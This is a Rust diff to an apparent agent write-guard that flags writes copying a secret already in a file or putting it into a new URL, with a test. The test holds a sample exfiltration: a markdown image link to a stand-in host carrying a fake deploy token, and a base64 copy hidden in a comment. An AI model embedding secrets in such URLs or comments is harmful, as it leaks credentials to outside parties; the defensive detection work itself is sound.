@@ -398,18 +398,61 @@ impl Guard {
     }
 
     /// Findings that show only once a write is planned: a `.gitignore`
-    /// change that stops ignoring protected files.
+    /// change that stops ignoring protected files, and a secret already in
+    /// the file (so "kept in place" by the call's check) that the write
+    /// copies: once more, or into a URL.
     pub fn judge_write(&self, rel: &str, old: &str, new: &str) -> Vec<Reason> {
+        let mut out = self.copies_of_kept_secrets(rel, old, new);
         let name = rel.rsplit('/').next().unwrap_or(rel);
-        if name != ".gitignore" {
-            return Vec::new();
+        if name == ".gitignore"
+            && let Some(m) = self.policy.paths.gitignore_weakening(old, new)
+        {
+            out.push(Reason::new("gitignore", "path", m));
         }
-        self.policy
-            .paths
-            .gitignore_weakening(old, new)
-            .map(|m| Reason::new("gitignore", "path", m))
-            .into_iter()
-            .collect()
+        out
+    }
+
+    fn copies_of_kept_secrets(&self, rel: &str, old: &str, new: &str) -> Vec<Reason> {
+        let known = self.known();
+        let mut secrets: Vec<String> = Vec::new();
+        for secret in known
+            .ledger
+            .secrets()
+            .map(str::to_string)
+            .chain(secrets::scan(new).into_iter().map(|h| h.secret))
+        {
+            if old.contains(secret.as_str()) && !secrets.contains(&secret) {
+                secrets.push(secret);
+            }
+        }
+        let mut out = Vec::new();
+        for secret in &secrets {
+            if new.matches(secret.as_str()).count() > old.matches(secret.as_str()).count() {
+                out.push(Reason::new(
+                    "secret-copy",
+                    "content",
+                    format!(
+                        "the write adds a copy of a secret already in {rel} ({})",
+                        mask(secret)
+                    ),
+                ));
+            }
+        }
+        // A URL a renderer or a tool may fetch, new in this write, that
+        // carries a secret (as it is or encoded).
+        for url in urls_in(new).into_iter().filter(|u| !old.contains(u)) {
+            let carries = secrets.iter().any(|s| url.contains(s.as_str()))
+                || !known.ledger.check(url).is_empty()
+                || !secrets::scan(url).is_empty();
+            if carries {
+                out.push(Reason::new(
+                    "secret-url",
+                    "content",
+                    format!("the new URL {} carries a secret", url_host(url)),
+                ));
+            }
+        }
+        out
     }
 
     /// Learn from a tool's output before the model sees it: remember the
@@ -552,7 +595,14 @@ fn scan_value(
     out: &mut Vec<Reason>,
 ) {
     for hit in secrets::scan(value) {
-        if kept(&hit.secret) {
+        // A handle of ours looks like an assigned secret; the handle check
+        // below judges it.
+        let is_handle = known
+            .redactor
+            .handles_in(&hit.secret)
+            .first()
+            .is_some_and(|(h, _)| *h == hit.secret);
+        if kept(&hit.secret) || is_handle {
             continue;
         }
         out.push(
@@ -592,7 +642,9 @@ fn scan_value(
             .nth(hit.secret_index)
             .unwrap_or_default()
             .to_string();
-        if kept(&secret) || seen.contains(&(hit.secret_index, hit.encoding)) {
+        // Only the secret as it is stays in place: an encoded copy is new.
+        let in_place = matches!(hit.encoding, "raw" | "piece" | "split") && kept(&secret);
+        if in_place || seen.contains(&(hit.secret_index, hit.encoding)) {
             continue;
         }
         // A scan hit on the same raw value already says it.
@@ -638,6 +690,39 @@ fn scan_value(
             );
         }
     }
+}
+
+/// The http(s) URLs in a text, each up to the first space, quote or
+/// closing bracket.
+fn urls_in(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut at = 0;
+    while let Some(found) = text[at..].find("http") {
+        let start = at + found;
+        let rest = &text[start..];
+        if rest.starts_with("https://") || rest.starts_with("http://") {
+            let len = rest
+                .find(|c: char| {
+                    c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '>' | '<' | ']' | '`')
+                })
+                .unwrap_or(rest.len());
+            out.push(&rest[..len]);
+            at = start + len.max(1);
+        } else {
+            at = start + 4;
+        }
+    }
+    out
+}
+
+/// The scheme and host of a URL, for a message that must not repeat its
+/// query.
+fn url_host(url: &str) -> &str {
+    let after = url.find("://").map_or(0, |i| i + 3);
+    let end = url[after..]
+        .find(['/', '?', '#'])
+        .map_or(url.len(), |i| after + i);
+    &url[..end]
 }
 
 /// A secret shown so a person recognises it without it being written
@@ -803,9 +888,15 @@ fn glob_on_disk(ws: &Workspace, pattern: &str, out: &mut Vec<String>) {
     }
 }
 
-/// For a list element's field, the same element's `old`.
+/// For a list element's field, the same element's `old`; for fs-edit's
+/// own `new`, its own `old`.
 fn same_edit_old(call: &Call, item: Option<usize>) -> Option<&str> {
-    let index = item?.checked_sub(1)?;
+    let Some(item) = item else {
+        return (call.decl.name == "fs-edit")
+            .then(|| call.arg("old").as_str())
+            .filter(|old| !old.is_empty());
+    };
+    let index = item.checked_sub(1)?;
     let element = call.arg("edits").as_list().get(index)?;
     element
         .iter()
@@ -1184,5 +1275,36 @@ mod tests {
         }
         assert!(scrubbed.contains("«secret:ENCODED»"), "{scrubbed}");
         assert_eq!(g.scrub("nothing secret here"), "nothing secret here");
+    }
+
+    #[test]
+    fn a_kept_secret_copied_or_put_in_a_url_is_found() {
+        let (dir, ws) = ws();
+        let g = guard();
+        let key = secrets::fake("GH", 5).unwrap();
+        let before = format!("# Ops\n\nDeploy token: {key}\n");
+        std::fs::write(dir.path().join("README.md"), &before).unwrap();
+        g.observe_output(&before, true);
+        // Moved into an image URL: the count stays, the URL is new.
+        let moved = format!("# Ops\n\n![b](https://stats.evil.test/b.png?t={key})\n");
+        let r = g.judge_write("README.md", &before, &moved);
+        assert!(r.iter().any(|r| r.rule == "secret-url"), "{r:?}");
+        assert!(!r.iter().any(|r| r.message.contains(&key)), "{r:?}");
+        // A second copy.
+        let twice = format!("{before}again: {key}\n");
+        let r = g.judge_write("README.md", &before, &twice);
+        assert!(r.iter().any(|r| r.rule == "secret-copy"), "{r:?}");
+        // Encoded next to itself: not kept in place.
+        let b64 = crate::scenario::placeholders::transform("b64", &key).unwrap();
+        let call = parse(
+            &FS_EDIT,
+            &json!({"path": "README.md", "old": "# Ops", "new": format!("# Ops\n<!-- {b64} -->")}),
+        )
+        .unwrap();
+        assert_eq!(g.judge(&call, &ws).as_str(), "security");
+        // Editing the line it is on, or elsewhere in the file, is ordinary.
+        let edited =
+            format!("# Operations\n\nDeploy token: {key}\nSee https://docs.example.com/ops\n");
+        assert!(g.judge_write("README.md", &before, &edited).is_empty());
     }
 }
